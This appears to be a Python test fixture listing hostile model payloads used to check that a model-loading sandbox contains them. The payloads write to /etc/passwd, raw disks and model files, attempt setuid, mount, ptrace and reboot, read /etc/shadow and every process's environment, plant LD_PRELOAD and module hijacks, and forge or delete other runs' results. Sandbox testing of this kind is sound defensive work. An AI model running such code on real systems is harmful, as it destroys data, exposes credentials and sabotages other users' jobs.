"""Models that write where they should not, and read what is not theirs."""

from tests.hostile.attack import Attack

ATTACKS = (
    Attack(
        name="writes-everywhere",
        vehicle="build",
        does="writes to /, the model, the probe, the request, packages, /proc and /sys",
        code="""
def attack():
    library = os.path.dirname(os.__file__)
    model = [os.path.join(at, name) for at, _, names in os.walk("/models") for name in names][0]
    for path in (
        "/x", "/etc/passwd", "/usr/x", "/root/x", "/run/x", "/var/x", "/dev/x", "/sys/x",
        model, "/models/x", "/files/x", "/probe/probe.py", "/probe/x", "/request/requests.json",
        os.path.join(library, "os.py"), os.path.join(library, "site-packages", "x.pth"),
        os.path.dirname(OUT) + "/x", sys.executable,
        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger",
        "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
        "/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda",
    ):
        tried("write " + path, lambda: open(path, "a").write("x"))
    tried("remove the model", lambda: os.remove(model))
    tried("exchange /out", lambda: os.rename(OUT, OUT + "-mine"))
""",
        verdict="equivalent",
    ),
    Attack(
        name="writes-to-the-model",
        vehicle="build",
        does="writes beside its own weights, and fails without",
        code="""
def attack():
    open(os.path.join("/models", os.listdir("/models")[0], "cache.bin"), "w").write("x")
""",
        verdict="failed",
        stage="load",
        reason="read-only-file-system",
    ),
    Attack(
        name="becomes-root",
        vehicle="build",
        does="setuid, mount, chroot, new namespaces, device nodes, ptrace, keys",
        code="""
def attack():
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)

    def call(name, *arguments):
        if getattr(libc, name)(*arguments) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

    tried("setuid", lambda: os.setuid(0))
    tried("setgroups", lambda: os.setgroups([0]))
    tried("mount", lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, None))
    tried("remount", lambda: call("mount", b"none", b"/", None, 32, None))
    tried("chroot", lambda: os.chroot("/tmp"))
    tried("new user namespace", lambda: call("unshare", 0x10000000))
    tried("new network namespace", lambda: call("unshare", 0x40000000))
    tried("device node", lambda: os.mknod(OUT + "/disk", 0o060666, os.makedev(8, 0)))
    tried("device node in /tmp", lambda: os.mknod("/tmp/null", 0o020666, os.makedev(1, 3)))
    tried("trace the parent", lambda: call("ptrace", 16, os.getppid(), 0, 0))
    tried("memory of the parent", lambda: open("/proc/%d/mem" % os.getppid(), "r+b"))
    tried("output of the parent", lambda: open("/proc/%d/fd/1" % os.getppid(), "w"))
    tried("trace process 1", lambda: call("ptrace", 16, 1, 0, 0))
    tried("keyring", lambda: call("syscall", 248, b"user", b"x", b"y", 1, -3))
    tried("reboot", lambda: call("reboot", 0x1234567))
    tried("kernel log", lambda: call("klogctl", 3, ctypes.create_string_buffer(99), 99))
    tried("more open files", lambda: __import__("resource").setrlimit(7, (99999, 99999)))
    tried("bigger files", lambda: __import__("resource").setrlimit(1, (-1, -1)))
    tried("better priority", lambda: os.nice(-5))
""",
        verdict="equivalent",
    ),
    Attack(
        name="reads-the-host",
        vehicle="custom_objects",
        does="reads a file of the host, variables of every process, mounted disks",
        code="""
def attack():
    tried("file of the host", lambda: print(open(MARKER).read()))
    for root in ("/proc/1/root", "/host", "/mnt", "/proc/self/cwd/../.."):
        tried("by " + root, lambda: print(open(root + MARKER).read()))
    tried("shadow", lambda: print(open("/etc/shadow").read()))
    for process in [name for name in os.listdir("/proc") if name.isdigit()]:
        try:
            print(open("/proc/%s/environ" % process).read())
        except OSError:
            pass
    tried("Docker's folder", lambda: os.listdir("/var/lib/docker"))
    tried("kernel memory", lambda: open("/proc/kcore", "rb").read(64)[0])
    print(open("/proc/self/mountinfo").read())


class Harmless:
    pass


attack()
""",
        verdict="equivalent",
    ),
    Attack(
        name="prepares-for-others",
        vehicle="build",
        does="leaves settings and modules for the attempts after it",
        code="""
def attack():
    os.environ["PYTHONPATH"] = "/tmp"
    os.environ["LD_PRELOAD"] = "/tmp/evil.so"
    os.makedirs("/tmp/.keras", exist_ok=True)
    open("/tmp/.keras/keras.json", "w").write('{"floatx": "float16", "epsilon": 1.0}')
    for name in ("sitecustomize", "usercustomize", "numpy", "tensorflow", "json"):
        open("/tmp/%s.py" % name, "w").write("raise SystemExit('hijacked')")
    sys.path.insert(0, "/tmp")
    others = os.path.dirname(OUT)
    for name in os.listdir(others):
        if name != os.path.basename(OUT):
            for file in ("report.json", "outputs.npz", "probe.log", "ended.json"):
                path = os.path.join(others, name, file)
                try:
                    open(path, "w").write('{"schema": 1, "status": 0, "signal": null}')
                except OSError:
                    pass
    import shutil
    for name in os.listdir(others):
        if name != os.path.basename(OUT):
            shutil.rmtree(os.path.join(others, name), ignore_errors=True)
    sys.path.remove("/tmp")
""",
        verdict="equivalent",
    ),
)
